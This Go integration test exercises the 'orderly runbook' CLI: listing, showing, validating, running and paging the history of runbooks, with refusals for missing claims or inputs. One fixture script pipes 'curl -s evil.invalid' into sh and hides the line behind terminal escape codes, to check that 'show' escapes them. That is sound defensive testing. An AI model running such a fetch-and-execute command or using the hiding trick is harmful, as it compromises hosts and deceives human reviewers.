package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/orderly-run/orderly/api/client"
	"github.com/orderly-run/orderly/internal/auth"
)

// TestRunbookCLI drives `orderly runbook` against a real stack (API,
// PostgreSQL, NATS, a worker): each subcommand, the API's refusals as the
// CLI prints them (403 claims, 422 with every problem, 404, 412 after an
// edit), the exit status of a failing script with --wait and --follow,
// and a keyed retry answered from its key.
func TestRunbookCLI(t *testing.T) {
	dir := t.TempDir()
	books := map[string]string{
		"Hello.md":   runbookDoc("Hello", "{}", "  []", "", `echo hello`),
		"Fails.md":   runbookDoc("Fails", "{}", "  []", "", "echo out\necho err >&2\nexit 3"),
		"Needs.md":   runbookDoc("Needs", "NODE: The node to report on\nEXTRA: Anything", "  []", "", `echo "node=$NODE extra=$EXTRA"`),
		"Guarded.md": runbookDoc("Guarded", "{}", "  []", "roles: ops, admin", `echo guarded`),
		"Missing.md": runbookDoc("Missing", "{}", "  - gone.txt", "", `echo never`),
		"Slow.md":    runbookDoc("Slow", "{}", "  []", "", `sleep 30`),
		// A line that a terminal would erase (cursor up, erase the
		// line): printed raw, show would show only the innocent echo.
		// The tabs are the script's and stay.
		"Hidden.md": runbookDoc("Hidden", "{}", "  []", "", "curl -s evil.invalid | sh\necho tidy\x1b[1A\x1b[2K\u202e\ncat <<-EOF\n\tdone\tok\n\tEOF"),
	}
	for name, text := range books {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	bobTok, bobSum := auth.NewToken()
	s := newSecStack(t, fmt.Sprintf(`
auth:
  tokens:
    - {name: bob, sha256: %q, roles: [dev]}
policy:
  - {name: admin, roles: [admin], hosts: ["*"], allow: [".*"], run_as: ["", "*"]}
  - {name: runbooks, roles: [dev], hosts: ["*"], allow: ['^runbook:']}
runbooks:
  dir: %q
  host: rbc1
  timeout: 60s
`, bobSum, dir), nil, "rbc1")
	// cliTee runs `orderly runbook args…` as token, its stderr written
	// to tee too.
	cliTee := func(tee io.Writer, token string, args ...string) (string, string, error) {
		var out, errb strings.Builder
		err := run(t.Context(), append([]string{"orderly", "runbook"}, args...), []string{"ORDERLY_URL=" + s.url, "ORDERLY_TOKEN=" + token},
			strings.NewReader(""), &out, io.MultiWriter(&errb, tee))
		return out.String(), errb.String(), err
	}
	cliAs := func(token string, args ...string) (string, string, error) { return cliTee(io.Discard, token, args...) }
	cli := func(args ...string) (string, string, error) { return cliAs(s.token, args...) }
	wantRefusal := func(what string, err error, code client.Code, texts ...string) {
		t.Helper()
		if client.ErrorCode(err) != code {
			t.Errorf("%s: %v, want a refusal %s", what, err, code)
			return
		}
		for _, text := range texts {
			if !strings.Contains(err.Error(), text) {
				t.Errorf("%s: %q does not say %q", what, err, text)
			}
		}
	}

	t.Run("ls", func(t *testing.T) {
		out, errs, err := cli("ls")
		if err != nil || !regexp.MustCompile(`(?m)^FILE +VALID +PROBLEMS$`).MatchString(out) ||
			!regexp.MustCompile(`(?m)^Hello\.md +yes +0$`).MatchString(out) || !regexp.MustCompile(`(?m)^Missing\.md +no +1$`).MatchString(out) {
			t.Errorf("runbook ls: %v %q\n%s", err, errs, out)
		}
		out, _, err = cli("ls", "--json")
		var list struct{ Runbooks []client.Runbook }
		if err != nil || json.Unmarshal([]byte(out), &list) != nil || len(list.Runbooks) != len(books) {
			t.Errorf("runbook ls --json: %v\n%s", err, out)
		}
	})

	t.Run("show", func(t *testing.T) {
		out, _, err := cli("show", "Needs.md")
		for _, want := range []string{"File:", "Needs.md", "Valid:  yes", "Inputs: none", "ETag:", "--- script ---\necho \"node=$NODE extra=$EXTRA\"\n"} {
			if err != nil || !strings.Contains(out, want) {
				t.Errorf("runbook show: %v, want %q in\n%s", err, want, out)
			}
		}
		if !regexp.MustCompile(`(?m)^  NODE +The node to report on$`).MatchString(out) {
			t.Errorf("runbook show: want the variable NODE and its description in\n%s", out)
		}
		out, _, err = cli("show", "Missing.md")
		if err != nil || !strings.Contains(out, "runbook_input_missing: Required input file does not exist: gone.txt") {
			t.Errorf("runbook show of an invalid runbook: %v\n%s", err, out)
		}
		out, _, err = cli("show", "Guarded.md", "--json")
		var v client.RunbookDetail
		if err != nil || json.Unmarshal([]byte(out), &v) != nil || v.Content != books["Guarded.md"] || len(v.Claims) != 1 || v.Claims[0].Name != "roles" {
			t.Errorf("runbook show --json: %v\n%s", err, out)
		}
		// The file's text is written with its control characters
		// escaped, as ls writes another principal's command line.
		out, _, err = cli("show", "Hidden.md")
		if err != nil || !strings.Contains(out, "--- script ---\ncurl -s evil.invalid | sh\necho tidy\\x1b[1A\\x1b[2K\\u202e\ncat <<-EOF\n\tdone\tok\n\tEOF\n") ||
			strings.ContainsAny(out, "\x1b\r\u202e") {
			t.Errorf("runbook show of a script with terminal escapes and tabs: %v, want the escapes escaped and the tabs kept in\n%q", err, out)
		}
		_, _, err = cli("show", "Nope.md")
		wantRefusal("show of an unknown runbook", err, client.CodeNotFound, "Runbook not found")
	})

	t.Run("validate", func(t *testing.T) {
		_, _, err := cli("validate", "Needs.md", "-e", "NODE=n1")
		wantRefusal("validate without EXTRA", err, client.CodeUnprocessable,
			"runbook Needs.md cannot run (unprocessable):\n  runbook_env_not_set: Required environment variable not set: EXTRA")
		_, _, err = cli("validate", "Needs.md")
		wantRefusal("validate without either variable", err, client.CodeUnprocessable, // every problem, one a line
			"\n  runbook_env_not_set: Required environment variable not set: NODE\n  runbook_env_not_set: Required environment variable not set: EXTRA")
		out, _, err := cli("validate", "Needs.md", "-e", "NODE=n1", "-e", "EXTRA=x")
		if err != nil || out != "Needs.md: valid\n" {
			t.Errorf("validate: %v %q", err, out)
		}
		out, _, err = cli("validate", "Needs.md", "-e", "NODE=n1", "-e", "EXTRA=x", "--json")
		var v client.RunbookValidation
		if err != nil || json.Unmarshal([]byte(out), &v) != nil || v.File != "Needs.md" || !v.Valid {
			t.Errorf("validate --json: %v %q", err, out)
		}
		_, _, err = cli("validate", "Needs.md", "--json")
		wantRefusal("validate --json without the variables", err, client.CodeUnprocessable, "runbook Needs.md cannot run (unprocessable):")
		_, _, err = cliAs(bobTok, "validate", "Guarded.md")
		wantRefusal("validate without the claims", err, client.CodeForbidden, "RBAC check failed for validate")
		_, _, err = cli("validate", "Missing.md", "--timeout", "-1s")
		if err == nil || !strings.Contains(err.Error(), "--timeout must not be negative") {
			t.Errorf("a negative --timeout: %v", err)
		}
	})

	t.Run("run refused", func(t *testing.T) {
		_, _, err := cliAs(bobTok, "run", "Guarded.md", "--wait")
		wantRefusal("run without the claims", err, client.CodeForbidden, "RBAC check failed for execute", "roles=dev (required: ops, admin)")
		_, _, err = cli("run", "Needs.md", "-e", "NODE=n1", "--wait")
		wantRefusal("run without EXTRA", err, client.CodeUnprocessable,
			"runbook Needs.md cannot run (unprocessable):\n  runbook_env_not_set: Required environment variable not set: EXTRA")
		_, _, err = cli("run", "Missing.md", "-e", "X=1")
		wantRefusal("run of an invalid runbook", err, client.CodeUnprocessable, "\n  runbook_input_missing: Required input file does not exist: gone.txt")
		_, _, err = cli("run", "Nope.md")
		wantRefusal("run of an unknown runbook", err, client.CodeNotFound, "Runbook not found")
		_, _, err = cli("run", "Missing.md", "--if-unchanged")
		if err == nil || !strings.Contains(err.Error(), "not valid; nothing was run") || !strings.Contains(err.Error(), "runbook_input_missing: Required input file does not exist: gone.txt") {
			t.Errorf("--if-unchanged of an invalid runbook: %v", err)
		}
	})

	t.Run("run", func(t *testing.T) {
		out, _, err := cli("run", "Hello.md")
		if _, perr := uuid.Parse(strings.TrimSpace(out)); err != nil || perr != nil {
			t.Errorf("run without --wait prints the order id: %v %q", err, out)
		}
		out, errs, err := cli("run", "Hello.md", "--follow")
		if err != nil || out != "hello\n" {
			t.Errorf("run --follow: %v %q %q", err, out, errs)
		}
		out, errs, err = cli("run", "Needs.md", "-e", "NODE=n1", "-e", "EXTRA=x", "--wait")
		if err != nil || out != "node=n1 extra=x\n" {
			t.Errorf("run --wait: %v %q %q", err, out, errs)
		}
		for _, flag := range []string{"--wait", "--wait=2m", "--follow"} {
			out, errs, err = cli("run", "Fails.md", flag)
			if code, ok := err.(exitCodeError); !ok || code != 3 || out != "out\n" || errs != "err\n" {
				t.Errorf("run %s of a script that exits 3: %v %q %q, want exit status 3 and its output", flag, err, out, errs)
			}
		}
		out, _, err = cli("run", "Fails.md", "--wait", "--json")
		var o client.Order
		if code, ok := err.(exitCodeError); !ok || code != 3 || json.Unmarshal([]byte(out), &o) != nil || o.Status != client.StatusFailed {
			t.Errorf("run --wait --json: %v\n%s", err, out)
		}
	})

	t.Run("if-match", func(t *testing.T) {
		out, _, err := cli("show", "Hello.md")
		m := regexp.MustCompile(`(?m)^ETag: +(\S+)$`).FindStringSubmatch(out)
		if err != nil || m == nil {
			t.Fatalf("show: %v\n%s", err, out)
		}
		if out, errs, err := cli("run", "Hello.md", "--if-match", m[1], "--wait"); err != nil || out != "hello\n" {
			t.Errorf("run --if-match of the unchanged file: %v %q %q", err, out, errs)
		}
		if err := os.WriteFile(filepath.Join(dir, "Hello.md"), []byte(runbookDoc("Hello", "{}", "  []", "", `echo hello again`)), 0o644); err != nil {
			t.Fatal(err)
		}
		_, _, err = cli("run", "Hello.md", "--if-match", m[1], "--wait")
		wantRefusal("run --if-match after an edit", err, client.CodePreconditionFailed)
		if out, errs, err := cli("run", "Hello.md", "--if-unchanged", "--wait"); err != nil || out != "hello again\n" {
			t.Errorf("run --if-unchanged: %v %q %q", err, out, errs)
		}
	})

	t.Run("idempotency key", func(t *testing.T) {
		first, errs, err := cli("run", "Needs.md", "-e", "NODE=k", "-e", "EXTRA=1", "--idempotency-key", "cli-key-1", "--wait")
		if err != nil || first != "node=k extra=1\n" || errs != "" {
			t.Fatalf("a keyed run: %v %q %q", err, first, errs)
		}
		again, errs, err := cli("run", "Needs.md", "-e", "NODE=k", "-e", "EXTRA=1", "--idempotency-key", "cli-key-1", "--wait")
		if err != nil || again != first || !strings.Contains(errs, `orderly: --idempotency-key "cli-key-1" was used before for this request: this is the order it recorded`) ||
			!strings.Contains(errs, "nothing new runs") {
			t.Errorf("the retry with its key: %v %q %q, want the first run's output and the replay note", err, again, errs)
		}
		_, _, err = cli("run", "Needs.md", "-e", "NODE=other", "-e", "EXTRA=1", "--idempotency-key", "cli-key-1")
		wantRefusal("the key with another request", err, client.CodeIdempotencyReused, "; order ")
		// An API that is not listening yet (a restart) is waited for, as
		// by submit (--retry-for); a retry of its own is not noted as a
		// replay.
		addr, stderr := lateProxy(t, s.url)
		out, errs, err := cliTee(stderr, s.token, "run", "Needs.md", "-e", "NODE=late", "-e", "EXTRA=1", "--idempotency-key", "cli-key-2", "--wait", "--url", "http://"+addr)
		if err != nil || out != "node=late extra=1\n" || !strings.Contains(errs, "trying again") || strings.Contains(errs, "used before") {
			t.Errorf("run while the API starts: %v %q %q", err, out, errs)
		}
	})

	t.Run("history", func(t *testing.T) {
		out, _, err := cli("history", "Fails.md")
		rows := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
		if err != nil || !regexp.MustCompile(`^ID +HOST +STATUS +EXIT +SUBMITTED +PRINCIPAL +VERSION$`).MatchString(rows[0]) ||
			len(rows) != 5 || !regexp.MustCompile(` rbc1 +failed +3 +.* admin +[0-9a-f]{12}$`).MatchString(rows[1]) {
			t.Errorf("history: %v\n%s", err, out)
		}
		out, errs, err := cli("history", "Fails.md", "--limit", "1")
		if err != nil || strings.Count(out, "\n") != 2 || !strings.Contains(errs, "more runs") {
			t.Errorf("history --limit 1: %v %q\n%s", err, errs, out)
		}
		m := regexp.MustCompile(`--cursor (\S+)\)`).FindStringSubmatch(errs)
		if m == nil {
			t.Fatalf("history --limit 1 names no --cursor for the next page: %q", errs)
		}
		next, _, err := cli("history", "Fails.md", "--limit", "1", "--cursor", m[1])
		if err != nil || strings.Count(next, "\n") != 2 || next == out || next != rows[0]+"\n"+rows[2]+"\n" {
			t.Errorf("history --cursor: %v\n%s, want the second run of\n%s", err, next, strings.Join(rows, "\n"))
		}
		out, errs, err = cli("history", "Fails.md", "--limit", "1", "--all")
		if err != nil || out != strings.Join(rows, "\n")+"\n" || errs != "" {
			t.Errorf("history --limit 1 --all: %v %q\n%s, want every run", err, errs, out)
		}
		out, _, err = cli("history", "Fails.md", "--limit", "1", "--all", "--json")
		var pages client.OrderList
		if err != nil || json.Unmarshal([]byte(out), &pages) != nil || len(pages.Orders) != 4 || pages.NextCursor != nil {
			t.Errorf("history --all --json: %v\n%s", err, out)
		}
		out, _, err = cliAs(bobTok, "history", "Guarded.md", "--json")
		var page client.OrderList
		if err != nil || json.Unmarshal([]byte(out), &page) != nil || len(page.Orders) != 1 || page.Orders[0].Status != client.StatusRejected {
			t.Errorf("history --json of bob's refused run: %v\n%s", err, out)
		}
	})

	t.Run("wait without a worker", func(t *testing.T) {
		// run --wait says that the host has no worker, as submit --wait
		// and run --follow do.
		defer func(d time.Duration) { noWorkerCheckAfter = d }(noWorkerCheckAfter)
		noWorkerCheckAfter = 300 * time.Millisecond
		for _, wait := range []string{"--wait=10m", "-w"} {
			stderr, err := waitForNote(t, []string{"orderly", "runbook", "run", "Hello.md", "--host", "rbc-none", wait},
				[]string{"ORDERLY_URL=" + s.url, "ORDERLY_TOKEN=" + s.token},
				"orderly: host rbc-none has no worker online (never seen): the order waits until one starts; Ctrl-C stops waiting")
			if err == nil {
				t.Errorf("run %s on a host without a worker ended: %q", wait, stderr)
			}
		}
	})

	t.Run("wait bounded", func(t *testing.T) {
		for _, flag := range []string{"--follow", "--json"} {
			_, errs, err := cli("run", "Slow.md", "--timeout", "3s", "--wait=1s", flag)
			var code exitCodeError
			if err == nil || errors.As(err, &code) || !strings.Contains(err.Error(), "has not finished within --wait=1s") ||
				!regexp.MustCompile(`orderly: stopped waiting; order \S+ goes on \(follow: orderly logs -f `).MatchString(errs) {
				t.Errorf("run --wait=1s %s of a longer script: %v %q, want exit 1, and how to follow the run", flag, err, errs)
			}
		}
	})
}
